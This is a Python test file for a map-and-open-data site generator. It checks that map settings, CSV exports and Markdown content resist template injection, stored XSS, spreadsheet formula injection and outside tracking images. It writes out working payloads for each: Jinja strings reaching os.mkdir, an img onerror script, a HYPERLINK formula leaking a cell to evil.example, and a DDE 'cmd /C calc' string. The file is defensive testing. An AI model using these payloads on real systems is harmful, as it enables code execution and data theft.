"""Issue #20's repros, on a copy of the demo: content never runs as code, never turns into a
spreadsheet formula, and never makes a page load an image from another site."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import python_calamine

from tests.conftest import build, cli

STATION = "content/stations/chint-smart-port-party-service.yaml"
STORY = "content/stories/baidu-ai-cloud-move-in.md"


def _quoted(text: str) -> str:
    """`text` as a YAML single-quoted scalar."""
    return "'" + text.replace("'", "''") + "'"


def _custom_map(site: Path, attribution: str,
                tiles: str = "https://tiles.example.gov.cn/{z}/{x}/{y}.png") -> None:
    """The demo's site.yaml with a custom base map (YAML single-quoted values)."""
    path = site / "content/site.yaml"
    text = path.read_text(encoding="utf-8")
    text = text[:text.index("\nmap:\n") + 1] + (  # the demo's map settings come last
        f"map:\n  provider: custom\n  tiles: {_quoted(tiles)}\n"
        f"  attribution: {_quoted(attribution)}\n  coord_system: wgs84\n")
    path.write_text(text, encoding="utf-8")


def _page(site: Path, rel: str) -> str:
    return (site / "output" / rel).read_text(encoding="utf-8")


# ---- 1. content runs code (map settings through folium's templates) --------------------

def test_template_code_in_the_attribution_never_runs(scratch_demo: Path, tmp_path: Path
                                                     ) -> None:
    made = tmp_path / "made-by-attribution"
    payload = ("© {{ cycler.__init__.__globals__.os.getpid() }} "
               f"{{{{ cycler.__init__.__globals__.os.mkdir('{made}') }}}}")
    _custom_map(scratch_demo, payload)

    run = cli("check", str(scratch_demo))
    assert run.returncode == 0, run.stderr  # a warning: the text is shown as written
    assert "Traceback" not in run.stderr
    assert re.search(r"site\.yaml:\d+:\d+  警告  map\.attribution", run.stderr), run.stderr
    assert not made.exists()

    assert build(scratch_demo).ok
    assert not made.exists()
    page = _page(scratch_demo, "map/index.html")
    assert ("底图：© {{ cycler.__init__.__globals__.os.getpid() }} {{ cycler.__init__"
            f".__globals__.os.mkdir(&#39;{made}&#39;) }}}}</p>") in page
    assert "{{ cycler.__init__.__globals__.os.getpid() }}" in page.split("L.tileLayer(")[1]


def test_a_quote_or_a_raw_tag_in_the_attribution_is_no_traceback(scratch_demo: Path) -> None:
    for text in ("某测绘's 地图", "{% raw %}", "{% endraw %}{{"):
        _custom_map(scratch_demo, text)
        result = build(scratch_demo, write=False)
        assert result.ok, result.report.format()
        page = next(o for o in result.outputs if o.path == "map/index.html").data.decode()
        assert "底图：" + text.replace("'", "&#39;") in page


def test_template_code_in_the_tile_url_is_a_located_error_and_never_runs(
        scratch_demo: Path, tmp_path: Path) -> None:
    made = tmp_path / "made-by-tiles"
    _custom_map(scratch_demo, "某测绘", "https://t.example.cn/{z}/{x}/{y}.png?k="
                f"{{{{cycler.__init__.__globals__.os.mkdir('{made}')}}}}")
    run = cli("check", str(scratch_demo))
    assert run.returncode == 1
    assert "Traceback" not in run.stderr
    lines = (scratch_demo / "content/site.yaml").read_text(encoding="utf-8").splitlines()
    line = next(n for n, text in enumerate(lines, 1) if text.lstrip().startswith("tiles:"))
    assert re.search(rf"site\.yaml:{line}:10  错误  map\.tiles\n  瓦片地址里的“\{{cycler\.__init__",
                     run.stderr), run.stderr
    assert not made.exists()


# ---- 2. stored XSS through Leaflet's attribution control ------------------------------

def test_an_html_attribution_is_escaped_on_every_page_with_a_map(scratch_demo: Path) -> None:
    _custom_map(scratch_demo, "<img src=x onerror=alert(1)>")
    result = build(scratch_demo)
    assert result.ok
    assert [d.code for d in result.report.warnings] == ["attribution-markup"]
    for rel in ("map/index.html", "alliances/zhangjiagang-three-chains/index.html",
                "stations/chint-smart-port-party-service/index.html"):
        page = _page(scratch_demo, rel)
        assert "<img src=x" not in page, rel
        assert "底图：&lt;img src=x onerror=alert(1)&gt;</p>" in page, rel
        # What Leaflet inserts as HTML is the escaped text.
        assert '"attribution": "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;"' in page, rel


# ---- 4. formula injection in the open-data CSV files ----------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_records(site: Path) -> None:
    station = site / STATION
    text = station.read_text(encoding="utf-8")
    text = text.replace("name: 正泰智电港党群服务站", "name: " + _quoted(HYPERLINK))
    text = text.replace("- 工商注册", "- " + _quoted(DDE))
    text = text.replace("hours: 工作日 9:00—17:30", "hours: '-2+3'\nphone: '+86 21 5888 0000'")
    station.write_text(text, encoding="utf-8")
    alliance = site / "content/alliances/zhangjiagang-three-chains/alliance.yaml"
    text = alliance.read_text(encoding="utf-8")
    text = text.replace("short_name: 张家港“三链”党建", "short_name: '=1+1'")
    text = text.replace("industries: [冶金新材料,", "industries: ['@cmd', 冶金新材料,")
    alliance.write_text(text, encoding="utf-8")


def _csv_rows(site: Path, name: str) -> list[dict[str, str]]:
    raw = (site / "output/data" / name).read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw)))


def _as_spreadsheet_reads(cell: str) -> str | float:
    """What a spreadsheet makes of a CSV cell: a number when it reads as one, else text."""
    try:
        return float(cell)
    except ValueError:
        return cell


def test_formula_cells_are_neutralised_in_every_csv(scratch_demo: Path, tmp_path: Path
                                                    ) -> None:
    _hostile_records(scratch_demo)
    assert build(scratch_demo).ok
    station = next(r for r in _csv_rows(scratch_demo, "stations.csv")
                   if r["slug"] == "chint-smart-port-party-service")
    assert station["name"] == "'" + HYPERLINK
    assert station["services"].split(";")[0] == "'" + DDE
    assert (station["hours"], station["phone"]) == ("'-2+3", "'+86 21 5888 0000")
    assert 31 < float(station["lat"]) < 32  # numbers we write stay numbers
    alliance = next(r for r in _csv_rows(scratch_demo, "alliances.csv")
                    if r["slug"] == "zhangjiagang-three-chains")
    assert alliance["short_name"] == "'=1+1"
    assert alliance["industries"].startswith("'@cmd;冶金新材料")
    assert int(alliance["members"]) > 0

    # Through a spreadsheet library: no cell of any table becomes a formula, and the text
    # reads back as it was written. (The same library makes a formula of the bare payload.)
    book = openpyxl.Workbook()
    book.active.append([HYPERLINK])
    assert book.active["A1"].data_type == "f"
    for name in ("stations.csv", "alliances.csv", "enterprises.csv"):
        raw = (scratch_demo / "output/data" / name).read_bytes().decode("utf-8-sig")
        rows = [[_as_spreadsheet_reads(c) for c in row]
                for row in csv.reader(io.StringIO(raw))]
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        cells = [c for row in book.active.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
        path = tmp_path / name.replace(".csv", ".xlsx")
        book.save(path)
        back = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0)
        read = [[c for c in row] for row in back.to_python(skip_empty_area=False)]
        assert [[c for c in row if c != ""] for row in read] == [
            [c for c in row if c != ""] for row in rows], name


# ---- 5. images from other websites in Markdown ---------------------------------------

def _story_with_outside_images(site: Path) -> int:
    """Add a tracking pixel two ways to a demo story; return the line of the first."""
    story = site / STORY
    text = story.read_text(encoding="utf-8").rstrip("\n")
    first = text.count("\n") + 3
    story.write_text(text + "\n\n![x](https://evil.example/t.png)\n\n"
                     '<img src="https://evil.example/p.gif" width="1" height="1">\n'
                     "\n[原文](https://www.gov.cn/)\n", encoding="utf-8")
    return first


def test_outside_images_are_located_errors(scratch_demo: Path) -> None:
    line = _story_with_outside_images(scratch_demo)
    run = cli("check", str(scratch_demo))
    assert run.returncode == 1
    rel = STORY.removeprefix("content/")
    assert (f"{rel}:{line}:6  错误\n  正文里的图片“https://evil.example/t.png”来自其他网站。"
            in run.stderr), run.stderr
    assert (f"{rel}:{line + 2}:11  错误\n  正文里的图片“https://evil.example/p.gif”来自其他网站。"
            in run.stderr), run.stderr
    assert "gov.cn" not in run.stderr  # links to other sites stay allowed
    assert "失败：2 个错误" in run.stderr


def test_outside_images_warn_builds_with_warnings(scratch_demo: Path) -> None:
    _story_with_outside_images(scratch_demo)
    site_yaml = scratch_demo / "content/site.yaml"
    site_yaml.write_text(site_yaml.read_text(encoding="utf-8") + "outside_images: warn\n",
                         encoding="utf-8")
    result = build(scratch_demo)
    assert result.ok
    assert [d.code for d in result.report.warnings] == ["outside-image", "outside-image"]
    assert 'src="https://evil.example/p.gif"' in _page(scratch_demo,
                                                      "stories/baidu-ai-cloud-move-in/index.html")
